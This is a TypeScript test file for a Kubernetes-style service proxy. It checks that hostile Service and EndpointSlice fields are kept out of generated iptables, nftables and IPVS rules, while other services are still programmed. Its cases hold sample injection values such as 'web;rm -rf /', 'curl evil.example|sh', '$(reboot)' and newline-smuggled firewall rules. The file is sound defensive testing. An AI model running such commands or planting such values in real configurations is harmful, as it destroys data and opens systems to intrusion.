import { InvalidError } from '@flotilla/core';
import { describe, expect, it } from 'vitest';
import { iptablesRules } from '../src/iptables/iptables-rules.js';
import { ipvsRules } from '../src/ipvs/ipvs-rules.js';
import { nftablesRules } from '../src/nftables/nftables-rules.js';
import { buildProxyState, type ProxyInput, type SkippedObject } from '../src/state/proxy-state.js';
import { endpointSlice, service } from './support/fixtures.js';

const node = { nodeName: 'node-1', nodeIPs: ['198.18.0.1'] };
// `web` is the object each case spoils; `api` is a bystander that must be programmed all the same.
const good = (): ProxyInput => ({
  ...node,
  services: [
    service('ns1', 'web', '10.0.0.1', [{ name: 'http', port: 80 }]),
    service('ns1', 'api', '10.0.0.2', [{ name: 'http', port: 80 }]),
  ],
  endpointSlices: [
    endpointSlice('ns1', 'web', [{ name: 'http', port: 8080 }], [{ ip: '10.1.0.1' }]),
    endpointSlice('ns1', 'api', [{ name: 'http', port: 8080 }], [{ ip: '10.1.0.9' }]),
  ],
});

type Mutation = (input: ProxyInput) => ProxyInput;
const withService =
  (patch: (s: ProxyInput['services'][number]) => void): Mutation =>
  (input) => {
    const s = structuredClone(input.services[0]);
    patch(s);
    return { ...input, services: [s, input.services[1]] };
  };
const withSlice =
  (patch: (s: ProxyInput['endpointSlices'][number]) => void): Mutation =>
  (input) => {
    const s = structuredClone(input.endpointSlices[0]);
    patch(s);
    return { ...input, endpointSlices: [s, input.endpointSlices[1]] };
  };

const cases: [string, Mutation, string, string][] = [
  [
    'a service name with a shell command',
    withService((s) => {
      s.metadata.name = 'web;rm -rf /';
    }),
    'metadata.name',
    'web;rm -rf /',
  ],
  [
    'a namespace with a newline (rule injection)',
    withService((s) => {
      s.metadata.namespace = 'ns1\n-A INPUT -j ACCEPT';
    }),
    'metadata.namespace',
    '-A INPUT',
  ],
  [
    'a port name with a quote (comment escape)',
    withService((s) => {
      s.spec.ports![0].name = 'http" -j ACCEPT "';
    }),
    'spec.ports[0].name',
    'http" -j ACCEPT "',
  ],
  [
    'a ClusterIP with extra text',
    withService((s) => {
      s.spec.clusterIP = '10.0.0.1 -j DROP';
    }),
    'spec.clusterIP',
    '10.0.0.1 -j DROP',
  ],
  [
    'an IPv6 ClusterIP',
    withService((s) => {
      s.spec.clusterIP = 'fd00::1';
    }),
    'spec.clusterIP',
    'fd00',
  ],
  [
    'an out-of-range port',
    withService((s) => {
      s.spec.ports![0].port = 70000;
    }),
    'spec.ports[0].port',
    '70000',
  ],
  [
    'a fractional port',
    withService((s) => {
      s.spec.ports![0].port = 80.5;
    }),
    'spec.ports[0].port',
    '80.5',
  ],
  [
    'an unknown protocol',
    withService((s) => {
      (s.spec.ports![0] as { protocol: string }).protocol = 'ICMP';
    }),
    'spec.ports[0].protocol',
    'ICMP',
  ],
  [
    'an external IP with a CIDR',
    withService((s) => {
      s.spec.externalIPs = ['198.18.0.0/16'];
    }),
    'spec.externalIPs[0]',
    '198.18.0.0/16',
  ],
  [
    'an affinity timeout of zero',
    withService((s) => {
      s.spec.sessionAffinity = 'ClientIP';
      s.spec.sessionAffinityConfig = { clientIP: { timeoutSeconds: 0 } };
    }),
    'spec.sessionAffinityConfig.clientIP.timeoutSeconds',
    'between 1 and 86400',
  ],
  [
    'a source range with a space',
    withService((s) => {
      s.spec.type = 'LoadBalancer';
      s.spec.loadBalancerSourceRanges = ['0.0.0.0/0 -j ACCEPT'];
    }),
    'spec.loadBalancerSourceRanges[0]',
    '0.0.0.0/0 -j ACCEPT',
  ],
  [
    'an externalName with a shell command',
    withService((s) => {
      s.spec = { type: 'ExternalName', externalName: 'example.com;curl evil.example|sh' };
    }),
    'spec.externalName',
    'curl evil.example|sh',
  ],
  [
    'an externalName with a newline (record injection)',
    withService((s) => {
      s.spec = { type: 'ExternalName', externalName: 'example.com\nevil.example. IN A 198.18.0.66' };
    }),
    'spec.externalName',
    'IN A 198.18.0.66',
  ],
  [
    'an endpoint address with a newline',
    withSlice((s) => {
      s.endpoints[0].addresses = ['10.1.0.1\nCOMMIT'];
    }),
    'endpoints[0].addresses[0]',
    '10.1.0.1\nCOMMIT',
  ],
  [
    'an endpoint port of zero',
    withSlice((s) => {
      s.ports![0].port = 0;
    }),
    'ports[0].port',
    '10.1.0.1:0',
  ],
  [
    'an endpoint node name with $()',
    withSlice((s) => {
      s.endpoints[0].nodeName = '$(reboot)';
    }),
    'endpoints[0].nodeName',
    '$(reboot)',
  ],
];

describe('hostile input never reaches rule text, and never stops the other services', () => {
  it.each(cases)('leaves out %s, naming the field, and programs the rest', (_, mutate, field, shown) => {
    const input = mutate(good());
    for (const generate of [iptablesRules, nftablesRules, ipvsRules]) {
      const { text } = generate(input);
      expect(text).not.toContain(shown);
      // The bystander's cluster IP and endpoint are programmed.
      expect(text).toContain('10.0.0.2');
      expect(text).toContain('10.1.0.9');
    }
    const skipped = buildProxyState(input).skipped ?? [];
    const fields = skipped.flatMap((s) => s.fields);
    expect(fields.map((f) => f.field)).toContain(field);
    // Only the spoiled Service (or its slice) is listed.
    expect(new Set(skipped.map((s) => s.service)).size).toBe(1);
    expect(skipped.map((s) => s.service)).not.toContain('ns1/api');
    // The bad value is shown JSON-escaped in the message, so a newline can never split a log line either.
    const message = fields.find((f) => f.field === field)?.message ?? '';
    expect(message).not.toContain('\n');
  });

  it('drops only the bad endpoint of a slice and keeps its good ones', () => {
    const input = withSlice((s) => {
      s.endpoints = [{ addresses: ['10.1.0.1\nCOMMIT'] }, { addresses: ['10.1.0.2'] }];
    })(good());
    const state = buildProxyState(input);
    const web = state.servicePorts.find((p) => p.serviceName === 'web');
    expect(web?.endpoints.map((e) => e.ip)).toEqual(['10.1.0.2']);
    expect(state.skipped).toEqual<SkippedObject[]>([
      {
        kind: 'EndpointSlice',
        namespace: 'ns1',
        name: 'web-abc',
        service: 'ns1/web',
        fields: [{ field: 'endpoints[0].addresses[0]', message: expect.stringContaining('COMMIT') }],
      },
    ]);
  });

  it.each([
    ['no cluster IP yet (before the allocator runs)', undefined],
    ['an empty cluster IP', ''],
  ])('leaves out a Service with %s until it has one', (_, clusterIP) => {
    const input = withService((s) => {
      s.spec.clusterIP = clusterIP;
    })(good());
    const state = buildProxyState(input);
    expect(state.servicePorts.map((p) => p.serviceName)).toEqual(['api']);
    expect(state.skipped?.[0]).toMatchObject({
      kind: 'Service',
      service: 'ns1/web',
      fields: [{ field: 'spec.clusterIP', message: expect.stringContaining('Required value') }],
    });
    // Allocated later: the next (partial) state programs it and forgets the skip.
    const allocated = withService((s) => {
      s.spec.clusterIP = '10.0.0.1';
    })(good());
    const next = buildProxyState(allocated, state);
    expect(next.servicePorts.map((p) => p.serviceName).sort()).toEqual(['api', 'web']);
    expect(next.skipped).toEqual([]);
  });

  it('ignores IPv6 entries in the address and range lists of an IPv4 proxy, as a single-stack kube-proxy does', () => {
    const input = withService((s) => {
      s.spec.type = 'LoadBalancer';
      s.spec.loadBalancerSourceRanges = ['2001:db8::/32', '198.18.0.0/16'];
      s.spec.externalIPs = ['fd00::7', '198.18.5.5'];
    })(good());
    const state = buildProxyState(input);
    const web = state.servicePorts.find((p) => p.serviceName === 'web');
    expect(web?.loadBalancerSourceRanges).toEqual(['198.18.0.0/16']);
    expect(web?.externalIPs).toEqual(['198.18.5.5']);
    expect(state.skipped).toEqual([]);
  });

  it.each([
    ['a node name with spaces', { nodeName: 'node 1' }, 'nodeName'],
    ['a node IP that is a hostname', { nodeIPs: ['localhost'] }, 'nodeIPs[0]'],
    ['a cluster CIDR without a prefix length', { clusterCIDR: '10.244.0.0' }, 'clusterCIDR'],
    ['a masquerade bit out of range', { masqueradeBit: 40 }, 'masqueradeBit'],
  ])('rejects %s: bad node facts stop the proxy, as no rule could be right', (_, patch, field) => {
    const error = (() => {
      try {
        iptablesRules({ ...good(), ...patch });
      } catch (err) {
        return err;
      }
    })();
    expect(error).toBeInstanceOf(InvalidError);
    expect((error as InvalidError).fields.map((f) => f.field)).toEqual([field]);
  });

  it('names every bad field of one service at once', () => {
    const input = withService((s) => {
      s.metadata.name = 'Web';
      s.spec.ports![0].port = -1;
      s.spec.externalIPs = ['x'];
    })(good());
    expect(buildProxyState(input).skipped?.[0].fields.map((f) => f.field)).toEqual([
      'metadata.name',
      'spec.externalIPs[0]',
      'spec.ports[0].port',
    ]);
  });
});
